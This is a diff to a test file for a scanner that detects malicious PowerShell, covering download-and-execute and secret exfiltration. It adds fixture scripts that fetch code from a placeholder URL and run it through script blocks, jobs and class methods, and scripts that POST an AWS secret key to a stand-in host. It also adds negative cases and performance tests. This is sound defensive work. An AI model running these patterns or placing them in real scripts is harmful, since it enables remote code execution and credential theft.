@@ -1620,6 +1620,23 @@ Deno.test("PowerShell: a download run and a secret sent by way of variables are 
     `function Get-Payload { Invoke-RestMethod ${url} }\n$p = Get-Payload\niex $p\n`,
     Array.from({ length: 12 }, (_, i) => `function G${i}($c) { G${i + 1} $c; G${i + 1} $c }\n`)
       .join("") + `function G12($c) { iex $c }\n$d = irm ${url}\nG0 $d\n`,
+    // Script blocks: held in a variable and called, invoked, handed to a runner with its
+    // arguments, run on each input; a function's `$args`; a block's `param(…)` on its line.
+    `$run = { param($c) iex $c }\n$p = irm ${url}\n& $run $p\n`,
+    `$sb = { param($c) Invoke-Expression $c }\n$p = irm ${url}\n$sb.Invoke($p)\n`,
+    `function Run { param($c) iex $c }\n$p = irm ${url}\nRun $p\n`,
+    `function Run { iex $args[0] }\nRun (irm ${url})\n`,
+    `$sb = { param($c) iex $c }\n$p = irm ${url}\nInvoke-Command -ScriptBlock $sb -ArgumentList $p\n`,
+    `$p = irm ${url}\nStart-Job -ScriptBlock { param($c) iex $c } -ArgumentList $p\n`,
+    `$p = irm ${url}\nInvoke-Command -ScriptBlock { iex $using:p }\n`,
+    `$p = irm ${url}\n$p | ForEach-Object { iex $_ }\n`,
+    `filter Run { iex $_ }\nirm ${url} | Run\n`,
+    `$r = & { irm ${url} }\niex $r\n`,
+    `$lines = irm ${url}\nforeach ($line in $lines) { iex $line }\n`,
+    // A class's methods, static or not, and its constructor.
+    `class R {\n  static [void] Go([string]$c) {\n    iex $c\n  }\n}\n$p = irm ${url}\n[R]::Go($p)\n`,
+    `class R {\n  [void] Run([string]$c) { Invoke-Expression $c }\n}\n$r = [R]::new()\n$p = irm ${url}\n$r.Run($p)\n`,
+    `class R {\n  R([string]$c) { iex $c }\n}\n$p = irm ${url}\n$r = [R]::new($p)\n`,
   ], [
     "# $code = irm https://get.example.net/x; iex $code\n",
     "<#\n iex (irm https://get.example.net/x)\n#>\nWrite-Host done\n",
@@ -1632,7 +1649,36 @@ Deno.test("PowerShell: a download run and a secret sent by way of variables are 
     `function Show($x) { Write-Host $x }\n$d = irm ${url}\nShow $d\n`,
     '$tool = "git"\n& $tool status\n',
     `Invoke-WebRequest ${url} -OutFile data.json\nGet-Content data.json | ConvertFrom-Json\n`,
+    // A block that only shows what it is given, called every way a block runs.
+    `$show = { param($x) Write-Host $x }\n$p = irm ${url}\n& $show $p\n`,
+    `Invoke-Command -ScriptBlock { param($c) Write-Host $c } -ArgumentList (irm ${url})\n`,
+    `irm ${url} | ForEach-Object { Write-Output $_.name }\n`,
+    `function Show { Write-Host $args[0] }\nShow (irm ${url})\n`,
+    `function Run { param($c, [switch]$Quiet) Write-Host $c }\n$p = irm ${url}\nRun -Quiet $p\n`,
+    `class R {\n  static [void] Show([string]$c) { Write-Host $c }\n}\n$p = irm ${url}\n[R]::Show($p)\n`,
   ]);
+  // A block over several lines: the line inside it that runs the download.
+  assert.deepEqual(
+    downloadRuns(
+      "scripts/m.ps1",
+      `$p = irm ${url}\nInvoke-Command -ScriptBlock {\n  param($c)\n  iex $c\n} -ArgumentList $p\n`,
+    ),
+    [4],
+  );
+  assert.deepEqual(
+    downloadRuns(
+      "scripts/e.ps1",
+      `irm ${url} |\n  ForEach-Object {\n    Invoke-Expression $_\n  }\n`,
+    ),
+    [3],
+  );
+  assert.deepEqual(
+    downloadRuns(
+      "scripts/a.ps1",
+      `function Run\n{\n  param($c)\n  iex $c\n}\n$p = irm ${url}\nRun $p\n`,
+    ),
+    [7],
+  );
   const ps = (text: string) => secretSeverities("scripts/s.ps1", text);
   const post = "https://collect.example.org/x";
   assert.deepEqual(
@@ -1655,6 +1701,19 @@ Deno.test("PowerShell: a download run and a secret sent by way of variables are 
   assert.deepEqual(
     ps(
       `function Send($data) {\n    Invoke-RestMethod -Uri ${post} -Method Post -Body $data\n}\nSend $env:AWS_SECRET_ACCESS_KEY\n`,
+    ),
+    ["critical"],
+  );
+  // A function's `$args` sent, and a block's parameter.
+  assert.deepEqual(
+    ps(
+      `function Send { Invoke-RestMethod -Uri ${post} -Method Post -Body $args[0] }\nSend $env:AWS_SECRET_ACCESS_KEY\n`,
+    ),
+    ["critical"],
+  );
+  assert.deepEqual(
+    ps(
+      `$s = { param($d) Invoke-RestMethod -Uri ${post} -Method Post -Body $d }\n& $s $env:AWS_SECRET_ACCESS_KEY\n`,
     ),
     ["critical"],
   );
@@ -1698,6 +1757,32 @@ Deno.test("PowerShell: a download run and a secret sent by way of variables are 
     ruleAt(findings({ "scripts/p.ps1": text }), "persistence-write").map((f) => f.line);
   assert.deepEqual(persists('$p = "Write-Host hi"\nAdd-Content -Path $PROFILE -Value $p\n'), [2]);
   assert.deepEqual(persists("Add-Content -Path ./notes.txt -Value hi\n"), []);
+});
+
+Deno.test("PowerShell: script blocks nested deep, and methods of one name in many classes, are read in bounded time", () => {
+  const url = "https://get.example.net/i.ps1";
+  const timed = (text: string) => {
+    const started = performance.now();
+    const lines = downloadRuns("scripts/n.ps1", text);
+    const ms = performance.now() - started;
+    assert.ok(ms < 2_500, `${(text.length / 1024).toFixed(0)} KB read in ${ms.toFixed(0)} ms`);
+    return lines;
+  };
+  // Each block run where it stands reads the blocks inside it again: without a bound on
+  // what calls may read, 3,000 nested blocks were read ~3,000 times over.
+  const nested = `$x = irm ${url}\n` + "$x | % {\n".repeat(3_000) + "iex $_\n" +
+    "}\n".repeat(3_000);
+  assert.deepEqual(timed(nested), [3_002]);
+  assert.deepEqual(timed("{ ".repeat(50_000) + "iex $x " + "} ".repeat(50_000)), []);
+  // `$this.Go(…)` could be any class's Go: 4,000 classes each calling every Go.
+  const classes = (call: (i: number) => string) =>
+    Array.from(
+      { length: 4_000 },
+      (_, i) => `class C${i} { [void] Go($c) { ${call(i)}; $c | % { ${call(i)} } } }\n`,
+    ).join("") +
+    `$x = irm ${url}\n$o = [C0]::new()\n$o.Go($x)\n`;
+  timed(classes(() => "$this.Go($c)"));
+  timed(classes((i) => `[C${i + 1}]::Go($c)`));
 });
 
 Deno.test("an environment getter handed as a value reads the variables the call names", () => {
